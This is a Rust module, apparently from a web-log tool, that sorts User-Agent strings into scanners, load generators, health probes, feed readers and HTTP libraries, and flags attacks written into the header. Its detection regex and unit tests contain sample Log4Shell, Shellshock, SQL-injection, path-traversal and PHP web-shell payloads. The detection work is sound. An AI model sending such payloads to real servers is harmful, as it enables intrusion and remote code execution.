//! Programs that say what they are and that the public list of crawlers misses: scanners, load
//! generators, probes, libraries; and attacks written into the header itself. Own patterns, matched
//! without regard to case.

use std::sync::LazyLock;

use regex::{Regex, RegexBuilder};

use crate::base::class::AgentClass::{self, CrawlerDeclared, Library, Monitor, Scanner};

/// (class, pattern).
pub(super) const OWN: &[(AgentClass, &str)] = &[
    // Vulnerability scanners, fuzzers, password guessers.
    (Scanner, r"\bnuclei\b|projectdiscovery|\binteractsh\b"),
    (Scanner, r"\bffuf\b|fuzz faster u fool|\bgobuster\b|feroxbuster|\bwfuzz\b|dirsearch"),
    (Scanner, r"\bw3af\b|\barachni\b|skipfish|\bhavij\b|\bcommix\b|\bjaeles\b|netsparker|invicti"),
    (Scanner, r"\(hydra\)|\bjorgee\b|morfeus|libredtail|^hello,? ?world|sqlninja|bsqlbf|\bfimap\b"),
    (Scanner, r"owasp|\bzaproxy\b|burp ?suite|burpcollaborator|appscan|webinspect|xpoc|\bwpscan"),
    (Scanner, r"\bmozi\b|\bmuhstik|\bxmrig|\br00ts3c|keydroid|gh0st|\btsunami ?security"),
    // Load generators: a test may explain a peak.
    (Scanner, r"^apachebench/|\bjmeter\b|^k6/|grafana ?k6|\bgatling\b|\blocust(io)?\b|\bsiege/"),
    (Scanner, r"^wrk\d?/|^hey/|\bvegeta\b|\btsung\b|autocannon|\bartillery\b|^bombardier|^h2load"),
    (Scanner, r"^httperf|slowloris|goldeneye|slowhttptest|loadrunner|neoload|octoperf|blazemeter"),
    (Scanner, r"loader\.io|^oha/|^drill/|^boom/|^rakyll|loadimpact|loadstorm|webload"),
    // Probes of load balancers, clusters and monitoring systems.
    (
        Monitor,
        r"^kube-probe/|elb-healthchecker|^googlehc/|google-?cloud-?health|consul health check",
    ),
    (
        Monitor,
        r"route53-health-check|azure traffic manager|edge health probe|^alwayson$|load balancer agent",
    ),
    (
        Monitor,
        r"\bnagios\b|\bicinga\b|centreon|^prometheus/|blackbox[- ]exporter|\bsensu\b|^telegraf/",
    ),
    (
        Monitor,
        r"^monit/|\bmunin\b|^envoy/hc|haproxy|health[-_ ]?check|\bpingdom|^gatus/|uptime-?kuma",
    ),
    (Monitor, r"internal dummy connection"),
    // Feed readers.
    (
        CrawlerDeclared,
        r"feed ?(demon|parser|reader|fetcher)|\bliferea|\brssowl|\brss[ /]|\batom[ /]",
    ),
    // Libraries, command-line tools, package managers, services of operating systems.
    (
        Library,
        r"^java/|jakarta|httpcomponents|^lwp|^perl|^python|^php|^ruby|^rust|^reqwest|^hyper/",
    ),
    (Library, r"postmanruntime|insomnia/|restsharp|guzzle|faraday|typhoeus|^http\.rb|rest-client"),
    (
        Library,
        r"^dart/|^node\b|undici|^got\b|^bun/|^deno/|superagent|fasthttp|^resty|^go-resty|^req/",
    ),
    (Library, r"winhttp|^git/|^aria2/|^lftp/|^axel|^fetch|davfs|gvfs|webdav|^dav|miniredir"),
    (Library, r"^debian apt|^apt-|urlgrabber|^libdnf|^pip/|^docker/|^containerd/|^cargo |^npm/"),
    (Library, r"microsoft[- ](cryptoapi|bits|office|url control|ncsi)|windows-update-agent"),
    (Library, r"libcurl|pycurl|^http_request|zend_http|pear http|snoopy|^mechanize|^httpclient"),
];

static ATTACK: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = concat!(
        r"\$\{[^}]{0,40}(jndi|lower:|upper:|::-)|\(\)\s*\{\s*:?;?\s*\}\s*;|<\?php|<script\b",
        r"|union[\s+]{1,4}(all[\s+]{1,4})?select|(\.\./){2}|/etc/passwd|\beval\s*\(|base64_decode",
        r"|sleep\(\d+\)|\bwaitfor delay\b|;\s*(wget|curl)\s"
    );
    RegexBuilder::new(pattern).case_insensitive(true).build().ok()
});

/// An attack in the header itself: Log4Shell (CVE-2021-44228), Shellshock (CVE-2014-6271), PHP,
/// script, SQL or path injection.
pub(super) fn attack(agent: &str) -> Option<AgentClass> {
    ATTACK.as_ref().filter(|pattern| pattern.is_match(agent)).map(|_| Scanner)
}

/// The agent that CloudFront writes over every visitor's unless told to forward it.
pub(super) fn is_replaced(agent: &str) -> bool {
    agent == "Amazon CloudFront"
}

/// Does it give the address of its own page, as crawlers do (`+http://…`), or does a word of it end
/// in bot, crawler, spider …? CUBOT is a maker of telephones.
pub(super) fn says_robot(agent: &str) -> bool {
    if agent.contains("+http://") || agent.contains("+https://") {
        return true;
    }
    let words = agent.split(|c: char| !c.is_ascii_alphanumeric());
    words.map(str::to_ascii_lowercase).any(|word| {
        let robot = ["bot", "bots", "robot", "crawler", "spider", "crawl", "fetcher"];
        word != "cubot" && robot.iter().any(|ending| word.ends_with(ending))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_that_say_robot() {
        assert!(says_robot("Mozilla/5.0 (compatible; ExampleBot/1.0; +http://example.org)"));
        assert!(says_robot("my-spider 2") && says_robot("Drupal (+http://drupal.org/)"));
        assert!(!says_robot("Mozilla/5.0 (Linux; Android 9; CUBOT_X19) AppleWebKit/537.36"));
        assert!(!says_robot("Bottle/1.0 (robotics)"));
    }

    #[test]
    fn attacks_in_the_header() {
        for agent in [
            "${jndi:ldap://203.0.113.1/a}",
            "${${lower:j}ndi:rmi://x}",
            "() { :;}; /bin/bash -c 'id'",
            "Mozilla/5.0' UNION  SELECT 1,2",
            "../../../../etc/hosts",
            "<?php system($_GET[0]); ?>",
        ] {
            assert_eq!(attack(agent), Some(Scanner), "{agent}");
        }
        assert_eq!(attack("Mozilla/5.0 (Student Union; select edition)"), None);
    }
}
